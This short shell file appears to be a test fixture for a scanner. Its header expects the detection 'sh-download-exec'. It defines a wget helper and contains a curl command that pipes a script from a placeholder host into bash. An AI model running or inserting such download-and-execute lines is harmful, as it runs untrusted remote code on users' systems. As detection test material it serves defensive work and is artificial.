# expect: sh-download-exec
dl() {
  wget -qO- "$1"
}
curl -fsSL https://x.example/a.sh | env bash
